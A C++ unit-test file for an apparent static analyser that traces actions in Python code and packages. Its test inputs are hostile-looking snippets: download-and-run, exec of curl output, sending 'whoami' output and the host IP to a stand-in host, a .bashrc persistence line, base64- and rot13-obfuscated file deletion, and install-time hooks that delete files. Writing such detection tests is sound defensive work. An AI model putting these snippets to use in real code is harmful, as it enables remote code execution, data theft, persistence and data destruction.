// What only Python's code and library do.
#include <gtest/gtest.h>

#include "facts/code/flow/flow_for_test.h"

namespace assay::code {
namespace {

TEST(FlowPython, A_download_to_a_file_is_a_request_and_a_file_of_the_network) {
  const Scene scene = python(R"(
import os, urllib.request
path, headers = urllib.request.urlretrieve("https://files.example.test/tool.exe", "/tmp/tool.exe")
os.startfile(path)
)");
  ASSERT_ACTION(fetch, scene, Act::fetch);
  EXPECT_EQ(fetch->target, "https://files.example.test/tool.exe");
  ASSERT_ACTION(write, scene, Act::write_file);
  EXPECT_EQ(write->target, "/tmp/tool.exe");
  EXPECT_TRUE(write->data.has(Source::remote));
  ASSERT_ACTION(run, scene, Act::run_shell);
  EXPECT_TRUE(run->target_from.has(Source::remote));
}

TEST(FlowPython, A_download_without_a_place_is_named_by_its_address) {
  const Scene scene = python("import wget\nwget.download('https://files.example.test/a/run.sh')\n");
  ASSERT_ACTION(write, scene, Act::write_file);
  EXPECT_EQ(write->target, "run.sh");
}

TEST(FlowPython, A_stream_copied_into_a_file_is_written_to_it) {
  const Scene scene = python(R"(
import requests, shutil
with requests.get("https://files.example.test/x", stream=True) as answer:
    with open("/tmp/x.bin", "wb") as file:
        shutil.copyfileobj(answer.raw, file)
)");
  ASSERT_ACTION(write, scene, Act::write_file);
  EXPECT_EQ(write->target, "/tmp/x.bin");
  EXPECT_TRUE(write->data.has(Source::remote));
}

TEST(FlowPython, A_relative_path_lies_where_the_code_went) {
  const Scene scene = python(R"(
import os
os.chdir(os.path.expanduser("~"))
open(".bashrc", "a").write("\n~/.helper &")
)");
  ASSERT_ACTION(write, scene, Act::write_file);
  EXPECT_EQ(write->target, "~/.bashrc");
}

TEST(FlowPython, Runs_what_was_written_under_a_computed_name) {
  const Scene scene = python(R"(
import base64, os, random, subprocess, sys
name = os.getcwd() + "/" + ''.join(random.choice("abc") for i in range(8)) + ".py"
code = base64.b64decode("aW1wb3J0IG9zCm9zLnJlbW92ZSgnTkFNRScpCg==").decode().replace("NAME", os.getlogin())
with open(name, "w") as file:
    file.write(code)
subprocess.Popen([sys.executable, name])
)");
  ASSERT_ACTION(run, scene, Act::run_program, "subprocess.Popen");
  EXPECT_TRUE(run->target_from.has(Source::decoded));
  EXPECT_GE(run->program, 0);
  EXPECT_NE(scene.find(Act::delete_file, "os.remove"), nullptr);
}

constexpr std::string_view starts_own = R"(==> pkg/__init__.py

==> pkg/main.py
import os
if __name__ == "__main__":
    os.remove("/a")
==> setup.py
import subprocess, sys
)";

TEST(FlowPython, A_module_that_the_setup_script_starts_is_a_program) {
  for (const std::string_view line : {"subprocess.run([sys.executable, '-m', 'pkg.main'])",
                                      "subprocess.run(['python', 'pkg/main.py'])",
                                      "__import__('os').system('python3 -m pkg.main')"}) {
    const Scene scene = analyse(std::string(starts_own) + std::string(line) + "\n");
    ASSERT_ACTION(gone, scene, Act::delete_file);
    EXPECT_TRUE(gone->at_load) << line;
  }
  const Scene idle = analyse(starts_own);
  ASSERT_ACTION(kept, idle, Act::delete_file);
  EXPECT_FALSE(kept->at_load);
}

TEST(FlowPython, Whoever_loads_a_build_back_end_calls_its_hooks) {
  const Package package = package_from_bundle(R"(==> backend.py
import os
def build_wheel(folder, settings=None, metadata=None):
    os.remove("/a")
def unrelated():
    os.rmdir("/b")
)");
  const std::vector<FileRole> roles{{Trigger::install, false, false, {"build_wheel"}}};
  Scene scene{package, analyse_flow(package, roles, {})};
  ASSERT_ACTION(called, scene, Act::delete_file, "os.remove");
  EXPECT_TRUE(called->at_load);
  ASSERT_ACTION(uncalled, scene, Act::delete_file, "os.rmdir");
  EXPECT_FALSE(uncalled->at_load);
}

TEST(FlowPython, What_a_probe_prints_says_whose_machine_it_is) {
  const Scene scene = python(R"(
import os, requests
name = os.popen("whoami").read().strip()
requests.get("https://in.example.test/" + name)
)");
  ASSERT_ACTION(send, scene, Act::send);
  EXPECT_TRUE(send->target_from.has(Source::user));
}

TEST(FlowPython, What_curl_prints_came_from_the_network) {
  const Scene scene =
      python("import subprocess\nexec(subprocess.getoutput('curl -s https://a.example.test/x'))\n");
  ASSERT_ACTION(run, scene, Act::run_code);
  EXPECT_TRUE(run->target_from.has(Source::remote));
}

TEST(FlowPython, Asking_for_ones_own_address_resolves_nothing) {
  const Scene scene = python(R"(
import socket, requests
requests.get("https://in.example.test/", params={"ip": socket.gethostbyname(socket.gethostname())})
)");
  EXPECT_EQ(scene.find(Act::resolve), nullptr);
  ASSERT_ACTION(send, scene, Act::send);
  EXPECT_TRUE(send->data.has(Source::host));
}

TEST(FlowPython, Decodes_through_a_codec_asked_for_by_name) {
  const Scene scene = python(R"code(
import codecs
exec(codecs.getdecoder("rot13")("vzcbeg bf; bf.erzbir('/n')")[0])
exec(__import__("base64").b64decode(codecs.getencoder("utf-8")("aW1wb3J0IG9zO29zLnJtZGlyKCcvYicp")[0]))
)code");
  EXPECT_NE(scene.find(Act::delete_file, "os.remove"), nullptr);
  EXPECT_NE(scene.find(Act::delete_file, "os.rmdir"), nullptr);
}

TEST(FlowPython, A_built_in_of_a_secret_name_runs_what_was_decoded) {
  const Scene scene = python(R"(
import base64, builtins, sys
plain = ''.join(chr((b - len(sys.argv[1])) % 256) for b in base64.b64decode("DA=="))
getattr(builtins, plain)(base64.b64decode(plain))
)");
  ASSERT_ACTION(run, scene, Act::run_code, "builtins.*");
  EXPECT_TRUE(run->target_from.has(Source::decoded));
}

}  // namespace
}  // namespace assay::code
